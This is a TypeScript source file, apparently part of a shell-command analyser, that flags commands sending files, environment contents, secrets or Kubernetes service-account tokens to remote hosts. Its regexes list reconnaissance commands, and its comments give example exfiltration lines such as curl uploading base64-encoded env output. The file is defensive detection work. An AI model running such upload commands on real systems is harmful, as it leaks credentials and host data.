import type { Call } from "./engine.ts";
import { insidePath } from "./paths.ts";
import { isSecretPath, sentData } from "./sent-data.ts";
import { detailOf, hostOf, isPrivateAddress, isUnprotected } from "./urls.ts";
import type { Taint, Value } from "./value.ts";

/**
 * Commands that tell more of a host than its name, its load, its sensors and the room on its disks, which a chat alert
 * carries; the second group is the rest of their pipeline.
 */
const TELLING =
  /(?:^|[`|;&(\n]|\bsudo )[\s\\]{0,16}(?:\/[\w/]{1,40}\/)?(?:(id|whoami|uname|ifconfig|ip|ss|netstat|arp|route|ps|env|printenv|set|last|lastlog|who|w|getent|crontab|dpkg|rpm|pacman|lsb_release|lscpu|lspci|lsmod|find|history|docker|kubectl)\b(?![.=])|cat[ \t]{1,8}(?!\/proc\/(?:loadavg|uptime|meminfo)|\/sys\/(?:class|devices|block)\/(?!dmi|virtual\/dmi)))((?:\\\n|[^;&)`\n]){0,400})/g;
/** Picks a line, a column or a count: an address for a name server, the five largest processes. */
const PICKS =
  /\|\s{0,4}(?:\/[\w/]{1,40}\/)?(?:awk|cut|grep|head|tail|sed|wc|uniq|jq)\b|\s--(?:filter|format)\b/;

/** True when whole outputs of such commands are in it. */
function tellsOfHost(text: string): boolean {
  return [...text.slice(0, 16_384).matchAll(TELLING)].some(([, , rest = ""]) => !PICKS.test(rest));
}

/** Data that leaves: files, output of commands, facts of the system. A fixed text is only a ping. */
export function noteUpload(call: Call, url: string, sent: readonly Value[], isFile: boolean): void {
  const { frame, span, name } = call;
  const held = sent.find(({ taint }) => taint?.kind === "file" && taint.path !== undefined);
  const file = sent.find((value) => isFile || /^@|=@|=</.test(value.text)) ?? held;
  const facts = sent.find(
    (value) => value.taint?.kind === "facts" || (value.taint === null && /\$\(|`/.test(value.text)),
  );
  const carried = frame.stdin?.taint !== undefined && sent.some((value) => /@-$|^-$/.test(value.text));
  if (file === undefined && facts === undefined && !carried) return;
  const stream = carried && frame.stdin?.taint?.kind === "file" ? frame.stdin.taint.path : undefined;
  const what =
    file === undefined
      ? "facts of this system"
      : ((carried ? streamed(frame.stdin?.taint) : null) ?? `the content of ${stream ?? pathOf(file)}`);
  const isSecret = facts?.taint?.path !== undefined && isSecretPath(facts.taint.path);
  const dull = file === undefined && facts !== undefined && !carried && !isSecret && !tellsOfHost(facts.text);
  const path = file === undefined ? undefined : pathOf(file);
  const confidence = path !== undefined && isSecretPath(path) ? "high" : dull ? "low" : "medium";
  const written = path === undefined ? undefined : frame.session.written.get(insidePath(frame, path) ?? path);
  const origin = carried
    ? frame.stdin?.taint
    : facts === undefined
      ? written?.content?.taint
      : isSecret
        ? facts.taint
        : ({ kind: "facts", span } as const);
  frame.session.say(frame, "exfiltrates", span, `${name} sends ${what} to ${url}.`, confidence, {
    ...detailOf(url, name),
    sent: sentData(
      dull || isEnrolled(call) ? null : origin,
      path === undefined ? [] : [path],
      isUnprotected(url),
    ),
  });
}

/** `curl "http://host/?e=$(env | base64)"`: passwords and keys as a part of what is asked for. */
export function noteCarriedInUrl({ frame, name, span }: Call, operands: readonly Value[]): void {
  const carried = operands.find(({ taint }) => taint?.kind === "facts" || taint?.kind === "file");
  if (carried === undefined || sentData(carried.taint) !== "secrets") return;
  const url = carried.text;
  const says = `${name} sends secrets as a part of the address ${url.slice(0, 120)}.`;
  frame.session.say(frame, "exfiltrates", span, says, "medium", { ...detailOf(url, name), sent: "secrets" });
}

/** Headers by which one logs in. */
const LOGIN_HEADER = /^(proxy-)?authorization:|^(x-)?[\w-]*(token|api-?key|auth|secret)[\w-]*:/i;
const SERVICE_TOKEN = /\/kubernetes\.io\/serviceaccount\/token$/;
/** Where the cluster's own API answers: its name, a variable, an address inside. */
const OWN_CLUSTER = /^\w+:\/\/(kubernetes(\.default)?\b|[$`{]|localhost\b)/;

/** `curl -b "s=$(base64 KEY)"`, `--header="X: $(cat KEY)"`: what stands in a file, behind a header's name. */
export function noteCarriedInHeader(
  { frame, name, span }: Call,
  url: string,
  headers: readonly Value[],
): void {
  for (const { text, taint } of headers) {
    const path = taint?.kind === "file" || taint?.kind === "facts" ? (taint.path ?? "") : "";
    const isToken = SERVICE_TOKEN.test(path) && !OWN_CLUSTER.test(url) && !isPrivateAddress(hostOf(url));
    const logsIn = LOGIN_HEADER.test(text) && !isUnprotected(url);
    if (!isToken && (logsIn || !isSecretPath(path))) continue;
    const says = `${name} sends ${path} to ${url}, in a header.`;
    frame.session.say(frame, "exfiltrates", span, says, "medium", {
      ...detailOf(url, name),
      sent: "secrets",
    });
    return;
  }
}

/** Asked for by an authority of one's own, or with a certificate of this host's: it was enrolled where it reports to. */
function isEnrolled({ args }: Call): boolean {
  return args.some(({ text }) => /^--(cacert|cert|ca-certificate|certificate)(=|$)|^-E$/.test(text));
}

/** What a stream without a name holds: lines of files, or what was captured on the wire. */
function streamed(taint: Taint | null | undefined): string | null {
  if (taint?.kind === "file" && taint.path === undefined) return "the content of files of this host";
  return taint?.kind === "fetch" && taint.url === "" ? "what passes on the network" : null;
}

/** The file an argument names (`f=@/etc/x`), or whose content it holds. */
function pathOf({ text, taint }: Value): string {
  return taint?.kind === "file" && taint.path !== undefined ? taint.path : text.replace(/^.*[@<]/, "");
}
